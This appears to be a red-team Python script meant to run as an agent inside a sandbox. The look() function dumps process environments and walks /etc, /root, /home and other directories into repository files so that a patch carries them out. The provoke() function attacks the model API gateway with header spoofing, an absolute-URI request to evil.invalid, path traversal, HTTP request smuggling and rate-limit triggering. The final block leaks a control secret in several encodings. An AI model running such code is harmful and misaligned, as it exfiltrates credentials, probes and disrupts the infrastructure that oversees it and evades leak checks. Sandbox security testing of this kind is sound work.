"""Runs as an agent, inside: takes down all that it can read, and provokes the gateway.

It imports nothing of ours. What it finds goes into files of the repository, which a patch carries
as they are.
"""

from __future__ import annotations

import base64
import http.client
import json
import os
import socket
import sys
from collections.abc import Iterator
from typing import BinaryIO

PLACES = (
    "/etc", "/run", "/home", "/workspace", "/tmp", "/var", "/opt", "/dev/shm", "/root", "/mnt",
)  # fmt: skip
MOST_BYTES = 200_000


def look() -> None:
    with open("seen.txt", "wb") as seen:
        for name in os.listdir("/proc"):
            if name.isdigit():
                for part in ("environ", "cmdline", "maps", "mountinfo"):
                    keep(seen, f"/proc/{name}/{part}")
        keep(seen, "/proc/mounts")
        keep(seen, "/proc/net/unix")
        for place in PLACES:
            for folder, _, names in os.walk(place):
                for name in names:
                    path = os.path.join(folder, name)
                    seen.write(os.fsencode(path) + b"\n")
                    if name not in {"seen.txt", "answers.txt"}:
                        keep(seen, path)


def keep(seen: BinaryIO, path: str) -> None:
    try:
        with open(path, "rb") as file:
            content = file.read(MOST_BYTES)
    except OSError as error:
        content = str(error).encode()
    seen.write(b"== " + os.fsencode(path) + b"\n" + content + b"\n")


def raw(request: bytes) -> bytes:
    answer = b""
    try:
        with socket.create_connection(("anthropic", 80), timeout=3) as connection:
            connection.sendall(request)
            while more := connection.recv(65536):
                answer += more
    except OSError as error:
        answer += str(error).encode()
    return answer


def ask(
    told: str,
    *,
    is_stream: bool = False,
    method: str = "POST",
    path: str = "/v1/messages",
    headers: dict[str, str] | None = None,
) -> bytes:
    asked = {
        "model": "claude-opus-4-5",
        "max_tokens": 100,
        "stream": is_stream,
        "messages": [{"role": "user", "content": told}],
    }
    connection = http.client.HTTPConnection("anthropic", timeout=60)
    given = {"content-type": "application/json", "x-api-key": "injected-by-gateway"}
    try:
        connection.request(method, path, json.dumps(asked), {**given, **(headers or {})})
        answer = connection.getresponse()
        head = f"{answer.status} {answer.getheaders()}\n"
        return head.encode() + answer.read()
    except (OSError, http.client.HTTPException) as error:
        return repr(error).encode()
    finally:
        connection.close()


def provoke() -> Iterator[tuple[str, bytes]]:
    yield "fine", ask("status 200")
    yield "stream", ask("status 200", is_stream=True)
    for status in (400, 401, 403, 404, 413, 500):
        yield str(status), ask(f"status {status}")
    yield "text", ask("text 401")
    yield "cut", ask("cut 200", is_stream=True)
    yield "gone", ask("gone 200")
    yield "key", ask("status 401", headers={"authorization": "Bearer me", "x-api-key": "me"})
    yield "via", ask("status 401", headers={"x-forwarded-host": "evil.invalid", "te": "trailers"})
    yield "path", ask("status 200", path="/v1/../v1/messages")
    yield "files", ask("status 200", path="/v1/files")
    yield "trace", ask("status 200", method="TRACE")
    yield (
        "absolute",
        raw(b"POST http://evil.invalid/v1/messages HTTP/1.1\r\nHost: evil.invalid\r\n\r\n"),
    )
    yield (
        "smuggle",
        raw(
            b"POST /v1/messages HTTP/1.1\r\nHost: anthropic\r\nContent-Length: 4\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/models HTTP/1.1\r\nHost: x\r\n\r\n"
        ),
    )
    # Last: they close the provider for a while.
    yield "429", ask("status 429")
    yield "529", ask("status 529")
    yield "garbage", raw(b"\x16\x03\x01\x00\xff" * 100)


def main() -> None:
    look()
    with open("answers.txt", "wb") as answers:
        answers.writelines(
            b"== " + name.encode() + b"\n" + answer + b"\n" for name, answer in provoke()
        )
    control = os.environ["CONTROL_VALUE"]
    for coded in (control, base64.b64encode(control.encode()).decode(), control.encode().hex()):
        print("control", coded, flush=True)
    for piece in (control[:7], control[7:]):
        sys.stderr.write(piece)
        sys.stderr.flush()
    with open("control.txt", "w") as file:
        file.write(control)


main()
